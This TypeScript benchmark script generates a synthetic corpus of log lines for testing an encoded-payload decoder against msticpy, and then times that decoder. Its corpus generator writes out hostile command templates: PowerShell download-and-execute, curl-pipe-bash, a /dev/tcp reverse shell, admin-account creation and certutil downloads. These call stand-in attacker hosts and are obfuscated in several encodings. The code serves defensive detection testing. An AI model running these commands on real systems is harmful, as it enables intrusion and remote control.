// Node side of the decode benchmark (protocol in bench/run.ts). Builds the corpus
// deterministically into bench/out/decode/ (ref.py reads it, so this side runs first),
// decodes it in msticpy parity mode and in the default mode, and writes our rows so
// ref.py can report row-by-row agreement with msticpy's unpack_df.
import { mkdirSync, readFileSync, writeFileSync } from 'fs';
import { join } from 'path';
import * as zlib from 'zlib';
import {
  decodedItemsToTable,
  decodeTexts,
  IDecodedItem,
  IDecodeOptions,
  MSTICPY_COLUMNS
} from '../../src/analytics/decode';
import { extractIocs } from '../../src/analytics/ioc';
import { report, ROOT, timeIt } from '../lib';

const DATA = join(ROOT, 'data', 'msticpy');
const OUT = join(ROOT, 'bench', 'out', 'decode');
const LINES = Number(process.env.DECODE_BENCH_LINES ?? 200_000);

/** Small seeded PRNG (mulberry32), so the corpus is the same on every run. */
function prng(seed: number): () => number {
  return () => {
    seed = (seed + 0x6d2b79f5) | 0;
    let t = Math.imul(seed ^ (seed >>> 15), 1 | seed);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

/** RFC 4180 CSV: the values of one named column. */
function csvColumn(file: string, column: string): string[] {
  const text = readFileSync(join(DATA, file), 'utf8').replace(/^\ufeff/, '');
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') {
        quoted = false;
      } else {
        cell += c;
      }
    } else if (c === '"') {
      quoted = true;
    } else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\n' || c === '\r') {
      if (c === '\r' && text[i + 1] === '\n') {
        i++;
      }
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
    } else {
      cell += c;
    }
  }
  const k = rows[0].indexOf(column);
  return rows
    .slice(1)
    .map(r => r[k])
    .filter(v => v);
}

function buildCorpus(n: number): string[] {
  const rand = prng(20261129);
  const pick = <T>(xs: T[]) => xs[Math.floor(rand() * xs.length)];
  const ip = () =>
    `${10 + Math.floor(rand() * 200)}.${Math.floor(rand() * 256)}.${Math.floor(rand() * 256)}.${1 + Math.floor(rand() * 254)}`;
  const host = () =>
    pick(['cdn', 'update', 'api', 'files', 'c2']) +
    Math.floor(rand() * 1000) +
    '.' +
    pick(['example.com', 'contoso.net', 'evil.example.org']);
  const cmd = () =>
    pick([
      `IEX (New-Object Net.WebClient).DownloadString('http://${host()}/a${Math.floor(rand() * 99)}.ps1')`,
      `Invoke-WebRequest -Uri http://${ip()}:8080/p -OutFile $env:TEMP\\p.exe; Start-Process $env:TEMP\\p.exe`,
      `net user admin${Math.floor(rand() * 99)} P@ssw0rd! /add; net localgroup administrators admin /add`,
      `curl -s http://${host()}/install.sh | bash -s -- --token ${Math.floor(rand() * 1e9)}`,
      `bash -i >& /dev/tcp/${ip()}/4444 0>&1`,
      `certutil -urlcache -split -f http://${ip()}/x.txt c:\\users\\public\\x.exe`
    ]);
  const b64 = (s: string | Buffer, enc: BufferEncoding = 'utf8') =>
    (typeof s === 'string' ? Buffer.from(s, enc) : s).toString('base64');
  const background = [
    ...csvColumn('processes_on_host.csv', 'CommandLine'),
    ...csvColumn('syslog_data.csv', 'SyslogMessage'),
    ...csvColumn('linux_events.csv', 'AuditdMessage')
  ];
  const msg = readFileSync(join(DATA, 'base64msg.txt'), 'utf8');
  const inzip = readFileSync(join(DATA, 'b64text_inzip.txt'), 'utf8');
  const payloads: (() => string)[] = [
    () => `powershell.exe -NoP -NonI -W Hidden -EncodedCommand ${b64(cmd(), 'utf16le')}`,
    () => `powershell -enc ${b64(cmd(), 'utf16le')}`,
    () => `echo ${b64(cmd())} | base64 -d | sh`,
    () => `data=${b64(zlib.gzipSync(Buffer.from(cmd() + '\n' + cmd())))}`,
    () =>
      `powershell -c "IEX(New-Object IO.StreamReader((New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('${b64(
        zlib.deflateRawSync(Buffer.from(cmd()))
      )}'),[IO.Compression.CompressionMode]::Decompress)),[Text.Encoding]::ASCII)).ReadToEnd()"`,
    () =>
      `type=PROCTITLE msg=audit(1550000000.123:${Math.floor(rand() * 1e5)}): proctitle=${Buffer.from(cmd().replace(/ /g, '\0')).toString('hex').toUpperCase()}`,
    () =>
      `shellcode = "${[...Buffer.from(cmd().slice(0, 24))].map(b => '\\x' + b.toString(16).padStart(2, '0')).join('')}"`,
    () =>
      `GET /search?q=${[...Buffer.from(cmd().slice(0, 30))].map(b => '%' + b.toString(16).padStart(2, '0')).join('')} HTTP/1.1`,
    () => `iex (${[...cmd().slice(0, 20)].map(c => `[char]${c.charCodeAt(0)}`).join('+')})`,
    () => `cmd /c echo ${b64('stage2: ' + b64(cmd()))}`,
    () => `token=${Buffer.from(cmd()).toString('base64url').replace(/=+$/, '')}`,
    () => (rand() < 0.5 ? msg : inzip)
  ];
  const texts: string[] = [];
  for (let i = 0; i < n; i++) {
    // One in four lines carries an encoded payload; base64msg-style texts are rarer.
    if (rand() < 0.25) {
      const k = Math.floor(rand() * payloads.length);
      texts.push(k === payloads.length - 1 && rand() > 0.02 ? payloads[0]() : payloads[k]());
    } else {
      texts.push(
        pick(background).replace(/\d{2,}/g, d =>
          String((Number(d) + i) % 10 ** d.length).padStart(d.length, '0')
        )
      );
    }
  }
  return texts;
}

const utf8Bytes = (texts: (string | null)[]) =>
  texts.reduce((n, t) => n + (t ? Buffer.byteLength(t) : 0), 0);

/** Our rows in unpack_df's shape (hex bytes), for ref.py's comparison. */
function rowsForRef(items: IDecodedItem[], texts: string[]): unknown[] {
  const table = decodedItemsToTable(items, { inputColumn: 'input', inputs: texts });
  const cols = MSTICPY_COLUMNS.filter(c => c !== 'file_hashes');
  const out: unknown[] = [];
  for (let r = 0; r < table.numRows; r++) {
    const row: Record<string, unknown> = {};
    for (const c of cols) {
      const v = table.getChild(c)!.get(r);
      row[c] =
        v instanceof Uint8Array ? Buffer.from(v).toString('hex') : c === 'reference' ? [...v] : v;
    }
    out.push(row);
  }
  return out;
}

async function main(): Promise<void> {
  mkdirSync(OUT, { recursive: true });
  const corpus = buildCorpus(LINES);
  writeFileSync(join(OUT, 'corpus.jsonl'), corpus.map(t => JSON.stringify(t)).join('\n') + '\n');
  const tests = [
    readFileSync(join(DATA, 'base64msg.txt'), 'utf8'),
    readFileSync(join(DATA, 'b64text_inzip.txt'), 'utf8')
  ];
  writeFileSync(join(OUT, 'tests.jsonl'), tests.map(t => JSON.stringify(t)).join('\n') + '\n');

  const cases: [string, string[], IDecodeOptions, boolean][] = [
    ['msticpy test inputs (parity)', tests, { parity: 'msticpy' }, true],
    ['corpus 20k (parity)', corpus.slice(0, 20_000), { parity: 'msticpy' }, false],
    ['corpus 20k (default)', corpus.slice(0, 20_000), {}, false],
    ['corpus (parity)', corpus, { parity: 'msticpy' }, true],
    ['corpus (default)', corpus, {}, false],
    ['corpus (default + IoCs)', corpus, { iocExtractor: texts => extractIocs(texts) }, false]
  ];
  for (const [name, texts, options, dump] of cases) {
    // The two msticpy test inputs take ~2 ms once compiled, but the first calls compile the
    // decoders: more runs there, so the figure is throughput; the first call is reported apart.
    const repeat = texts.length < 100 ? 30 : 3;
    const c0 = process.hrtime.bigint();
    if (repeat > 3) {
      decodeTexts(texts, options);
    }
    const firstCallSeconds = Number(process.hrtime.bigint() - c0) / 1e9;
    const { seconds, result, cpuSeconds } = await timeIt(() => decodeTexts(texts, options), repeat);
    const t0 = process.hrtime.bigint();
    const table = decodedItemsToTable(result, { inputColumn: 'input', inputs: texts });
    const tableSeconds = Number(process.hrtime.bigint() - t0) / 1e9;
    if (dump) {
      writeFileSync(
        join(OUT, `ours-${name.split(' ')[0]}.json`),
        JSON.stringify(rowsForRef(result, texts))
      );
    }
    const chains: Record<string, number> = {};
    for (const it of result) {
      const k = it.chain[0] ?? it.status;
      chains[k] = (chains[k] ?? 0) + 1;
    }
    report({
      case: name,
      seconds,
      // Least CPU time of a run: steadier than wall time on a shared machine.
      cpuSeconds,
      ...(repeat > 3 ? { repeat, firstCallSeconds } : {}),
      rows: texts.length,
      bytes: utf8Bytes(texts),
      items: table.numRows,
      inputRowsWithItems: new Set(result.map(i => i.row)).size,
      tableSeconds,
      ...(options.parity ? {} : { firstSteps: chains })
    });
  }
}

main().catch(err => {
  console.error(err);
  process.exit(1);
});
